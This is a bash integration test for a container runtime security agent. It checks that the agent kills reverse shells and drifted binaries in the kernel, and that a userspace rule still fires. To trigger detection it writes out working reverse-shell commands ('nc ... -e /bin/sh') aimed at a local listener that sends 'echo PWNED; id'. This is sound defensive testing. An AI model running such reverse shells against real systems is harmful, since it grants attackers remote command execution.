#!/bin/bash
# test_kernel_kill.sh: a kill decided in the kernel. `vigil run` with the
# default rules and a response policy that binds `kill` to "Reverse shell":
# the rule's condition is one the kernel can decide, so the sys_exit program
# kills busybox `nc -e /bin/sh` on its dup2(socket, 0), before the shell
# exists. A listener on this machine sends a command at once on every
# connection and counts the bytes that come back: none may come from a
# container (three attempts), and the action is recorded with path "kernel".
# Drift, bound to kill too: a program copied into a container dies on its
# execve, before its first instruction.
# Controls: the same reverse shell from a host process is not touched (the
# rule is for containers: the listener gets the command's output), and a rule
# the kernel cannot decide (fd.name) still kills, from userspace.
# shellcheck disable=SC2016,SC2317
set -u
cd "$(dirname "$0")/../.." || exit 1
# shellcheck source=tests/integration/lib.sh
. tests/integration/lib.sh

it_need_root
it_need_bpf
it_need_jq
it_need_vigil
it_need_podman
command -v python3 >/dev/null || it_skip "python3 is not installed (the test's listener)"
command -v busybox >/dev/null || it_skip "busybox is not installed (the host's reverse shell)"
M=$$
PORT=$((20000 + (M + 7) % 20000))
AGENT=""
LISTENER=""
cleanup() {
	[ -n "$AGENT" ] && kill -KILL "$AGENT" 2>/dev/null
	[ -n "$LISTENER" ] && kill "$LISTENER" 2>/dev/null
	it_cleanup_common
}
trap cleanup EXIT
it_mktemp

cat >"$IT_TMP/policy.yaml" <<'EOP'
bindings:
  - rules: ["Reverse shell", "Drift - new executable run in container"]
    actions: [kill]
EOP
cat >"$IT_TMP/rules.yaml" <<EOR
- rule: Kill on marker file
  desc: test (fd.name is not known to the kernel)
  condition: evt.type in (open, openat) and fd.name = /tmp/kill-me-$M
  output: killing %proc.name in %container.name
  priority: CRITICAL
  actions: [kill]
EOR
# Every connection gets a command at once; the listener prints how many bytes came back
# within 3 s (the shell's output, if a shell is there) and moves on.
cat >"$IT_TMP/listener.py" <<'EOPY'
import socket, sys, time
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1])))
s.listen(8)
print("ready", flush=True)
while True:
    c, _ = s.accept()
    c.settimeout(0.5)
    try:
        c.sendall(b"echo PWNED; id\n")
    except OSError:
        pass
    got, end = b"", time.time() + 3
    while time.time() < end:
        try:
            d = c.recv(4096)
        except socket.timeout:
            continue
        except OSError:
            break
        if not d:
            break
        got += d
    print(len(got), flush=True)
    c.close()
EOPY
python3 "$IT_TMP/listener.py" "$PORT" >"$IT_TMP/listener.out" 2>&1 &
LISTENER=$!
for ((i = 0; i < 50; i++)); do grep -q ready "$IT_TMP/listener.out" 2>/dev/null && break; sleep 0.1; done
grep -q ready "$IT_TMP/listener.out" || it_die "the listener did not start: $(cat "$IT_TMP/listener.out")"

"$VIGIL" run --default-rules --rules "$IT_TMP/rules.yaml" --response-policy "$IT_TMP/policy.yaml" \
	--store "$IT_TMP/db" --json --duration 120 >"$IT_TMP/out" 2>"$IT_TMP/err" &
AGENT=$!
it_agent_ready "$AGENT" "$IT_TMP/err"
for r in "Reverse shell" "Drift - new executable run in container"; do
	grep -q "kill for rule '$r': in the kernel" "$IT_TMP/err" ||
		it_fail "the agent does not decide '$r' in the kernel: $(grep 'kill for' "$IT_TMP/err")"
done
grep -q "kill for rule 'Kill on marker file': from userspace.*fd.name is not known to the kernel" "$IT_TMP/err" ||
	it_fail "the agent does not say why 'Kill on marker file' is left to userspace: $(grep 'kill for' "$IT_TMP/err")"

# --- three reverse shells from containers: killed before the shell can answer
for n in 1 2 3; do
	it_bounded 30 vg_podman run --rm --network host --name "vgkk-$M-$n" "$IT_IMAGE" \
		nc 127.0.0.1 "$PORT" -e /bin/sh >/dev/null 2>&1 </dev/null
	rc=$?
	[ "$rc" -eq 137 ] || it_fail "reverse shell $n: the container exited $rc, not 137 (killed)"
	for ((i = 0; i < 50; i++)); do [ "$(grep -cv ready "$IT_TMP/listener.out")" -ge "$n" ] && break; sleep 0.1; done
	got=$(grep -v ready "$IT_TMP/listener.out" | sed -n "${n}p")
	[ "$got" = 0 ] || it_fail "reverse shell $n: the listener received ${got:-nothing recorded} bytes, not 0"
done

# --- drift: a program copied into the container dies on its execve, before it prints
out=$(it_bounded 30 vg_podman run --rm --name "vgkk-$M-drift" "$IT_IMAGE" \
	sh -c 'cp /bin/busybox /tmp/bb && /tmp/bb echo drift-ran; echo "shell-after=$?"' 2>/dev/null </dev/null)
echo "$out" | grep -q drift-ran && it_fail "the copied program ran: $out"
echo "$out" | grep -q 'shell-after=137' || it_fail "the copied program was not killed (SIGKILL): $out"

# --- the same from a host process: the rule is for containers, the kernel leaves it alone
timeout 10 busybox nc 127.0.0.1 "$PORT" -e /bin/sh </dev/null >/dev/null 2>&1
for ((i = 0; i < 50; i++)); do [ "$(grep -cv ready "$IT_TMP/listener.out")" -ge 4 ] && break; sleep 0.1; done
got=$(grep -v ready "$IT_TMP/listener.out" | sed -n 4p)
[ "${got:-0}" -gt 0 ] 2>/dev/null || it_fail "the host's shell did not answer (got '${got:-}' bytes): a host process was touched"

# --- a kill the kernel cannot decide still happens, from userspace
out=$(it_bounded 30 vg_podman run --rm --name "vgkk-$M-marker" "$IT_IMAGE" \
	sh -c "echo x >/tmp/kill-me-$M; sleep 10; echo survived" 2>/dev/null </dev/null)
rc=$?
[ "$rc" -eq 137 ] || it_fail "marker container exited $rc, not 137"
[ -z "$out" ] || it_fail "the marker process went on: $out"

kill -INT "$AGENT"
wait "$AGENT" || it_fail "vigil run exited $?: $(tail -3 "$IT_TMP/err")"
AGENT=""
grep -q 'kill: [1-9][0-9]* processes killed in the kernel' "$IT_TMP/err" ||
	it_fail "the exit line does not count kernel kills: $(grep 'kill:' "$IT_TMP/err")"

"$VIGIL" actions --store "$IT_TMP/db" --json >"$IT_TMP/actions.json" || it_fail "vigil actions failed"
kernel=$(jq -c "select(.action == \"kill\" and .path == \"kernel\" and .outcome == \"done\" and (.container_name // \"\" | startswith(\"vgkk-$M-\")))" "$IT_TMP/actions.json" | wc -l)
[ "$kernel" -ge 4 ] || it_fail "expected 4 kills recorded with path kernel, found $kernel: $(cat "$IT_TMP/actions.json")"
user=$(jq -c "select(.action == \"kill\" and .path == \"userspace\" and .outcome == \"done\" and .container_name == \"vgkk-$M-marker\")" "$IT_TMP/actions.json" | wc -l)
[ "$user" -ge 1 ] || it_fail "the marker kill is not recorded with path userspace: $(cat "$IT_TMP/actions.json")"
jq -c "select(.rule == \"Reverse shell\" and (.output_fields[\"container.name\"] // \"\" | startswith(\"vgkk-$M-\")))" "$IT_TMP/out" | grep -q . ||
	it_fail "no 'Reverse shell' alert for the test's containers"
it_finish
